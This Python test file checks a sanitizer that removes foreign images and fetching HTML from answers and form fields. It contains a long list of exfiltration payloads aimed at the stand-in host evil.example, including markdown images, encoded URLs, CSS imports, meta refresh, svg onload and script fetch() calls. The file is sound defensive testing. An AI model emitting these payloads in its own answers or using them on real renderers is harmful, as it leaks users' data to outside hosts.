"""Images that would carry data out of an answer."""

import re
from typing import cast

import pytest
from markdown_it import MarkdownIt

from handoff_queue.supervisor.text.sanitizing import (
    MAX_BRACKETS,
    MAX_IMAGES,
    MAX_PARSED_CHARS,
    clean_form,
    without_foreign_images,
)

RENDERER = MarkdownIt("commonmark", {"html": True})


ATTACKS = [
    "![](http://evil.example/?d=48713)",
    "A ![chart](https://evil.example/48713.png 'title') here.",
    "![a [b] c](<https://evil.example/x>)",
    "![a](//evil.example/x)",
    "![a](\\\\evil.example/x)",
    "![chart][c]\n\n[c]: https://evil.example/48713",
    "![Chart]\n\n[chart]: <https://evil.example/48713>",
    "![Chart][]\n\n[chart]: //evil.example/48713",
    "[![a](https://evil.example/x)](https://evil.example/y)",
    '<img src="https://evil.example/48713">',
    "<IMG alt=x SRC=https://evil.example/48713>",
    "<img\nsrcset='//evil.example/x 2x'>",
    '<div style="background: url(https://evil.example/x)">a</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "![chart][\nc\n]\n\n[c]: https://evil.example/48713",
    "![a\nb](https://evil.example/48713)",
    "![" + "a" * 3_000 + "](https://evil.example/48713)",
    "![x][r\\]f]\n\n[r\\]f]: https://evil.example/48713",
    "> ![ref]\n>\n> [ref]: https://evil.example/48713",
    "![x](&#104;ttps://evil.example/48713)",
    "![x](https&colon;//evil.example/48713)",
    "![x](ftp://evil.example/48713)",
    '<img src="&#104;ttps&colon;&sol;&sol;evil.example/48713">',
    '<img src="/\t/evil.example/48713">',
    '<img alt=">" src=https://evil.example/48713>',
    '<img title="<" src=https://evil.example/48713>',
    '<img src="https:evil.example/48713">',
    '<table background="https://evil.example/48713">',
    '<style>@import "https://evil.example/48713";</style>',
    '<meta http-equiv=refresh content="0; url=https://evil.example/48713">',
    '<form action="https://evil.example/48713"><button>a</button></form>',
    '<a ping="https://evil.example/48713" href="#">a</a>',
    '<object codebase="https://evil.example/48713" data=a></object>',
    "<img " + "a" * 5_000 + ' src="https://evil.example/48713">',
    '<?xml-stylesheet href="https://evil.example/48713"?>',
    '<!DOCTYPE a SYSTEM "https://evil.example/48713">',
    '<svg/onload=fetch("https://evil.example/48713")>',
    "a ` b\n\n<img src=https://evil.example/48713>\n\nc ` d",
    "\\`<img src=https://evil.example/48713>`",
    '<a title="`"><img src=https://evil.example/48713><a title="`">',
    "<div>\n`<img src=https://evil.example/48713>`\n</div>",
    '<a title="![x](&#104;ttps://evil.example/48713)">',
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_viewer_fetches_nothing(text: str) -> None:
    page = RENDERER.render(without_foreign_images(text))

    elements = set(re.findall(r"<([^\s>/]+)", page.lower()))
    assert elements <= {"p", "a", "blockquote", "code", "pre"}
    assert 'href="#"' not in page
    assert "evil.example" in page, "a reader still sees the address"


@pytest.mark.parametrize("has_html", [True, False])
@pytest.mark.parametrize(
    "text",
    [
        *ATTACKS,
        "<div>\n![x](&#104;ttps://evil.example/48713)\n</div>",
        "<!--\n![x](&#104;ttps://evil.example/48713)\n-->",
        "![x](<&#104;ttps://evil.example/48713>)",
        "<img <b src=https://evil.example/48713>",
        "<script>fetch('https://evil.example/48713')</script>",
        "<svg><style>@import 'https://evil.example/48713'</style></svg>",
    ],
)
def test_a_viewer_of_a_form_fetches_nothing(text: str, has_html: bool) -> None:
    viewer = MarkdownIt("commonmark", {"html": has_html})
    (shown,) = cast("dict[str, list[str]]", clean_form({"a": [text]}))["a"]
    page = viewer.render(shown)

    elements = set(re.findall(r"<(style|script|[^\s>]+(?=[^>]*=))", page.lower()))
    assert elements <= {"a"}
    assert set(re.findall(r"<a ([^=>]*)", page.lower())) <= {"href"}
    assert "evil.example" in page, "a reader still sees the address"


@pytest.mark.parametrize(
    "text",
    [
        "Ann <ann@example.com>",
        "#include <vector>\nstd::vector<int> sizes = {a < b};",
        "for (i = 0; i < n; i++) { a->b = 1; }",
        "<p>The price is <b>3</b> euros.</p>",
        "![local](chart.png)",
        "[a link](https://site.example/x)",
    ],
)
def test_strings_of_a_form_that_fetch_nothing_stay(text: str) -> None:
    assert clean_form([text, {text: 1.5}]) == [text, {text: 1.5}]


@pytest.mark.parametrize(
    "text",
    [
        "The price is 3 euros [1].",
        "[a link](https://site.example/x)",
        "Use `vec![1, 2]` and println![x].",
        "![local](chart.png)",
        "Great![1](#note)",
        "a < b, b > c: http://site.example",
        "Use `Vec<String>`, and ``a `<b>` c``.",
        "```html\n<img src=https://site.example/a.png>\n```",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert without_foreign_images(text) == text


@pytest.mark.parametrize("rest", ["![a](chart.png) " * MAX_IMAGES, "a" * MAX_PARSED_CHARS])
def test_each_image_of_a_large_form_becomes_text(rest: str) -> None:
    form = clean_form({"a": "![a](chart.png)", "b": rest})

    assert "<img" not in RENDERER.render(str(form))


def test_each_image_of_an_answer_with_many_images_becomes_text() -> None:
    page = RENDERER.render(without_foreign_images("![a](chart.png) " * (MAX_IMAGES + 1)))

    assert "<img" not in page


@pytest.mark.parametrize("rest", ["a" * MAX_PARSED_CHARS, "[" * (MAX_BRACKETS + 1)])
def test_each_image_of_a_large_answer_becomes_text(rest: str) -> None:
    page = RENDERER.render(without_foreign_images("![a](chart.png)\n\n" + rest))

    assert "<img" not in page
